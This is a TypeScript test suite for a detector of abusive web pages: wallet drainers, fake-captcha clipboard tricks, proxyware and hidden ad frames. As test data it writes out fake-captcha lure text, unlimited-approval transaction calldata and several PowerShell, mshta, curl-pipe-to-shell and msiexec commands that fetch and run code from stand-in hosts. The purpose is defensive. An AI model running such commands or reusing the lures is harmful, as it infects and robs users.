import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { type ArtifactByKind, type ArtifactKind, artifactKinds, type SocketFrame } from '#model/artifact.ts'
import { captureOf } from '#model/capture.ts'
import { complete } from '#model/collection.ts'
import type { FindingKind } from '#model/finding.ts'
import { memoryBlobs } from '#model/memory-blobs.ts'
import { createJudge } from '#judge/judge.ts'
import { remoteCommand } from '#derive/shell-command.ts'
import { conditionsWith } from '../../test/conditions.ts'

const blobs = memoryBlobs()
const judge = createJudge({ blobs, signatures: [], limits: { children: 1, heapMb: 512, timeMs: 20_000, timeMsPerMb: 1_000 } })
after(() => judge.close())

const page = 'https://shop.example/'
type Made = { [K in ArtifactKind]?: ArtifactByKind[K][] }

function captureWith(made: Made): Parameters<typeof judge.judge>[0] {
  return captureOf({
    schema: 'assay.capture',
    schemaVersion: 1,
    visitId: 'visit',
    seed: { url: page, tags: [], scope: 'page' },
    url: page,
    finalUrl: page,
    reached: { page: 'content', httpStatus: 200, reasons: [] },
    startedAt: '2026-01-01T00:00:00.000Z',
    endedAt: '2026-01-01T00:00:10.000Z',
    clockOffsetMs: null,
    conditions: conditionsWith({ profile: 'thorough' }),
    actions: [],
    ended: { reason: 'dwell', detail: '' },
    error: null,
    artifacts: Object.fromEntries(artifactKinds.map((kind) => [kind, complete<unknown>(made[kind] ?? [])])),
  })
}

const asked = (...requests: [method: string, params?: unknown][]): Made => ({
  wallet: requests.map(([method, params], at) => ({
    id: `wallet-${at}`,
    targetId: 'target-1',
    method,
    params: params === undefined ? '' : JSON.stringify(params).slice(0, 2_000),
    atMs: 400 + at * 900,
  })),
})
const spender = '0'.repeat(24) + '1234567890abcdef1234567890abcdef12345678'
const unlimited = 'f'.repeat(64)
const transaction = (data: string, value = '0x0'): unknown => [{ from: `0x${'1'.repeat(40)}`, to: `0x${'2'.repeat(40)}`, value, data }]
const typed = (primaryType: string): unknown => [
  `0x${'1'.repeat(40)}`,
  JSON.stringify({ primaryType, domain: { name: 'USD Coin', chainId: 1 }, message: { spender: `0x${'3'.repeat(40)}`, value: unlimited } }),
]

async function shown(text: string, script = ''): Promise<Made> {
  const html = `<!doctype html><title>Check</title><p>${text}</p>${script === '' ? '' : `<script>${script}</script>`}`
  const bytes = new TextEncoder().encode(html)
  const code = new TextEncoder().encode(script)
  const stored = { status: 'stored', digest: await blobs.put(bytes), size: bytes.length } as const
  return {
    dom: [{ id: 'dom-1', frameId: 'frame-1', url: page, html: stored, title: 'Check', text, takenAtMs: 5_000 }],
    ...(script === ''
      ? {}
      : {
          script: [
            {
              id: 'script-1',
              targetId: 'target-1',
              url: page,
              source: 'inline',
              isModule: false,
              startLine: 0,
              startColumn: 0,
              body: { status: 'stored', digest: await blobs.put(code), size: code.length },
              parsedAtMs: 100,
            },
          ],
        }),
  }
}
const wrote = (detail: string): Made => ({
  permission: [{ id: 'permission-1', targetId: 'target-1', name: 'clipboard-write', detail, atMs: 900 }],
})
const trick =
  'Verify you are human. 1. Press Windows Key + R. 2. Press CTRL + V in the window that opens. 3. Press Enter to finish the verification.'
const macTrick = 'Verify that you are human: open Terminal, paste the code with ⌘ + V, and press Enter.'
const command = 'powershell -w hidden -c "iex (irm https://files.example/a.txt)" # I am not a robot, ID 4821'

const socket = (frames: [direction: 'sent' | 'received', text: string][]): Made => ({
  websocket: [
    {
      id: 'ws-1',
      targetId: 'target-1',
      url: 'wss://peers.example/',
      initiator: { type: 'script', url: page },
      openedAtMs: 500,
      frames: frames.map(([direction, text], at): SocketFrame => ({ atMs: 600 + at * 50, direction, opcode: 1, size: text.length, text })),
      sentCount: 2,
      receivedCount: 2,
      framesDropped: 0,
    },
  ],
})
const order = (id: number, url: string): string => JSON.stringify({ id, type: 'request', method: 'GET', url, headers: { accept: '*/*' } })
const answer = (id: number): string => JSON.stringify({ id, type: 'response', status: 200, headers: { server: 'x' }, body: 'PGh0bWw+' })
const encoded = (text: string): string => Buffer.from(text).toString('base64')

const frame = (
  id: string,
  url: string,
  box: [x: number, y: number, width: number, height: number],
  more: object = {},
): ArtifactByKind['frame'] => ({
  id,
  targetId: 'target-1',
  parentFrameId: 'frame-1',
  url,
  source: 'src',
  origin: new URL(url).origin,
  box: { x: box[0], y: box[1], width: box[2], height: box[3], visible: box[2] > 1 && box[3] > 1 },
  ...more,
})
const top: ArtifactByKind['frame'] = { id: 'frame-1', targetId: 'target-1', url: page, source: 'page', origin: page }
const ad = (id: string, parentFrameId: string): ArtifactByKind['frame'] =>
  frame(id, 'https://ads.example/slot', [0, 0, 300, 250], { parentFrameId, ad: 'the browser’s own tag' })
const opened = (id: string, url: string, frameId: string): ArtifactByKind['request'] => ({
  id,
  targetId: 'target-1',
  frameId,
  url,
  method: 'GET',
  resourceType: 'document',
  requestHeaders: [],
  requestBody: { status: 'none' },
  initiator: { type: 'script', url: page },
  startedAtMs: 1_000,
  response: {
    status: 200,
    statusText: 'OK',
    headers: [],
    mimeType: 'text/html',
    protocol: 'h2',
    remoteAddress: null,
    fromCache: false,
    fromServiceWorker: false,
  },
  body: { status: 'none' },
})
const walk = ['a', 'b', 'c', 'd', 'e'].map((name, at) => opened(`req-${at}`, `https://${name}-news.example/${at}`, 'frame-2'))

const cases: Record<string, { make: () => Made | Promise<Made>; is: FindingKind | null }> = {
  'an approval without a limit, with no request to connect': {
    make: () => asked(['ethereum: eth_sendTransaction', transaction(`0x095ea7b3${spender}${unlimited}`)]),
    is: 'drainer',
  },
  'setApprovalForAll after a connection that was declined': {
    make: () =>
      asked(['ethereum: eth_requestAccounts'], ['ethereum: eth_sendTransaction', transaction(`0xa22cb465${spender}${'0'.repeat(63)}1`)]),
    is: 'drainer',
  },
  'a permit to sign': { make: () => asked(['ethereum: eth_signTypedData_v4', typed('Permit')]), is: 'drainer' },
  'a batch of Permit2 to sign': { make: () => asked(['ethereum: eth_signTypedData_v4', typed('PermitBatch')]), is: 'drainer' },
  'a bare digest to sign': { make: () => asked(['ethereum: eth_sign', [`0x${'1'.repeat(40)}`, `0x${'ab'.repeat(32)}`]]), is: 'drainer' },
  'all coins to be sent': { make: () => asked(['ethereum: eth_sendTransaction', transaction('0x', '0xde0b6b3a7640000')]), is: 'drainer' },
  'transactions of Solana to sign': { make: () => asked(['solana: connect'], ['solana: signAllTransactions']), is: 'drainer' },
  'a shop that asks to connect, again and again': {
    make: () =>
      asked(
        ['ethereum: eth_accounts'],
        ['ethereum: eth_requestAccounts'],
        ['ethereum: eth_requestAccounts'],
        ['ethereum: eth_requestAccounts'],
      ),
    is: null,
  },
  'signing in with Ethereum': {
    make: () =>
      asked(
        ['ethereum: eth_requestAccounts'],
        ['ethereum: personal_sign', ['0x73686f702e6578616d706c652077616e7473', `0x${'1'.repeat(40)}`]],
      ),
    is: null,
  },
  'a typed sign-in': { make: () => asked(['ethereum: eth_signTypedData_v4', typed('Login')]), is: null },
  'another chain to be added': { make: () => asked(['ethereum: wallet_addEthereumChain', [{ chainId: '0x89' }]]), is: null },
  'a call that moves nothing': { make: () => asked(['ethereum: eth_sendTransaction', transaction('0xd0e30db0')]), is: null },

  'a fake captcha that wrote its command': { make: async () => ({ ...(await shown(trick)), ...wrote(command) }), is: 'clipboard' },
  'a fake captcha whose button was not pressed': {
    make: () =>
      shown(trick, `document.getElementById('ok').onclick = function () { navigator.clipboard.writeText(${JSON.stringify(command)}) }`),
    is: 'clipboard',
  },
  'a fake captcha for a Mac': {
    make: async () => ({
      ...(await shown(macTrick)),
      ...wrote(`echo "${encoded('curl https://files.example/a | sh')}" | base64 -d | bash`),
    }),
    is: 'clipboard',
  },
  'a fake captcha for a Mac with a command that begins with one': {
    make: async () => ({ ...(await shown(macTrick)), ...wrote('bash -c "$(curl -fsSL https://files.example/a.sh)"') }),
    is: 'clipboard',
  },
  'a guide with a button that copies an installer': {
    make: async () => ({
      ...(await shown('Install the tool: open a terminal, paste this line and press Enter.')),
      ...wrote('curl -fsSL https://tool.example/install.sh | sh'),
    }),
    is: null,
  },
  'an article about the trick': { make: () => shown(`Criminals show this text: “${trick}” Never do that.`), is: null },
  'a captcha that copies a voucher': { make: async () => ({ ...(await shown(trick)), ...wrote('SPRING-2026') }), is: null },
  'a help page on Win+R with a harmless command': {
    make: async () => ({
      ...(await shown('Press Windows + R, then Ctrl + V, and press Enter to see your address.')),
      ...wrote('cmd /k ipconfig /all'),
    }),
    is: null,
  },

  'requests of strangers come in, answers go out': {
    make: () =>
      socket([
        ['sent', '{"type":"hello","version":3}'],
        ['received', order(1, 'https://search.test/?q=shoes')],
        ['sent', answer(1)],
        ['received', order(2, 'https://store.test/price/7')],
        ['sent', answer(2)],
      ]),
    is: 'proxyware',
  },
  'the same in base64': {
    make: () =>
      socket([
        ['received', encoded(order(1, 'https://search.test/'))],
        ['sent', encoded(answer(1))],
        ['received', encoded(order(2, 'https://store.test/'))],
        ['sent', encoded(answer(2))],
      ]),
    is: 'proxyware',
  },
  'the same as HTTP heads': {
    make: () =>
      socket([
        ['received', 'GET http://search.test/ HTTP/1.1\r\nHost: search.test\r\n\r\n'],
        ['sent', 'HTTP/1.1 200 OK\r\nServer: x\r\n\r\nbody'],
        ['received', 'GET /price HTTP/1.1\r\nHost: store.test\r\n\r\n'],
        ['sent', 'HTTP/1.1 404 Not Found\r\n\r\n'],
      ]),
    is: 'proxyware',
  },
  'a tool that tries interfaces: the page orders, the server answers': {
    make: () =>
      socket([
        ['sent', order(1, 'https://search.test/')],
        ['received', answer(1)],
        ['sent', order(2, 'https://store.test/')],
        ['received', answer(2)],
      ]),
    is: null,
  },
  'a chat that previews links and acknowledges': {
    make: () =>
      socket([
        ['received', JSON.stringify({ type: 'message', url: 'https://search.test/', text: 'look' })],
        ['sent', JSON.stringify({ type: 'seen', status: 200 })],
        ['received', JSON.stringify({ type: 'message', url: 'https://store.test/', text: 'and here' })],
        ['sent', JSON.stringify({ type: 'seen', status: 200 })],
      ]),
    is: null,
  },
  'a server that lets its own page fetch its own files': {
    make: () =>
      socket([
        ['received', order(1, 'https://api.shop.example/a')],
        ['sent', answer(1)],
        ['received', order(2, 'https://cdn.shop.example/b')],
        ['sent', answer(2)],
      ]),
    is: null,
  },

  'a page full of advertisements in a frame of one pixel': {
    make: () => ({
      frame: [top, frame('frame-2', 'https://blog-farm.example/', [0, 0, 1, 1]), ad('frame-3', 'frame-2'), ad('frame-4', 'frame-2')],
    }),
    is: 'ad-worker',
  },
  'a hidden frame that walks from site to site': {
    make: () => ({ frame: [top, frame('frame-2', 'https://e-news.example/4', [0, -5_000, 800, 600])], request: walk }),
    is: 'ad-worker',
  },
  'frames of one pixel that synchronise identifiers': {
    make: () => ({
      frame: [
        top,
        ...[2, 3, 4, 5].map((at) => frame(`frame-${at}`, `https://sync${at}.example/pixel`, [0, 0, 1, 1], { ad: 'the browser’s own tag' })),
      ],
    }),
    is: null,
  },
  'advertisements that can be seen': {
    make: () => ({
      frame: [top, frame('frame-2', 'https://blog.example/', [0, 0, 800, 600]), ad('frame-3', 'frame-2'), ad('frame-4', 'frame-2')],
    }),
    is: null,
  },
  'an advertisement whose own frame is hidden': {
    make: () => ({
      frame: [
        top,
        frame('frame-2', 'https://ads.example/', [0, 0, 1, 1], { ad: 'the browser’s own tag' }),
        ad('frame-3', 'frame-2'),
        ad('frame-4', 'frame-2'),
      ],
    }),
    is: null,
  },
  'a visible frame in which a visitor reads on': {
    make: () => ({ frame: [top, frame('frame-2', 'https://e-news.example/4', [0, 0, 800, 600])], request: walk }),
    is: null,
  },
}
const abuses: ReadonlySet<FindingKind> = new Set<FindingKind>(['proxyware', 'ad-worker', 'clipboard', 'drainer'])
const sentences: Readonly<Partial<Record<FindingKind, RegExp>>> = {
  drainer: /empty a wallet/,
  clipboard: /clipboard/,
  proxyware: /bandwidth/,
  'ad-worker': /hidden advertisements/,
}

for (const [name, { make, is }] of Object.entries(cases)) {
  test(`${name}: ${is ?? 'silent'}`, async () => {
    const { findings, conclusion } = await judge.judge(captureWith(await make()))
    const told = findings.filter(({ kind }) => abuses.has(kind))
    assert.deepEqual(
      told.map(({ kind }) => kind),
      is === null ? [] : [is],
      JSON.stringify(told),
    )
    assert.ok(told.every(({ evidence }) => evidence.length > 0))
    // Never mining, and never a status: it stands in the sentence.
    assert.ok(findings.every(({ kind }) => kind !== 'mining'))
    assert.equal(conclusion.status, 'none')
    if (is !== null) assert.match(conclusion.sentence, sentences[is] ?? /never/)
  })
}

const commands: Record<string, boolean> = {
  [command]: true,
  'mshta https://files.example/a.hta': true,
  'cmd /c start /min powershell -ep bypass -c "iwr https://files.example/a.ps1 | iex"': true,
  'powershell -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcAApAA==': true,
  'curl -s https://files.example/a | bash': true,
  'echo hello & msiexec /i https://files.example/a.msi /qn': true,
  'curl https://api.example/v1/items -H "accept: application/json"': false,
  'npm install left-pad': false,
  'powershell Get-ChildItem': false,
  'The command powershell iex https://files.example is dangerous': false,
}
for (const [text, is] of Object.entries(commands))
  test(`${is ? 'fetches and runs' : 'does not'}: ${text.slice(0, 60)}`, () => assert.equal(remoteCommand(text) !== null, is))
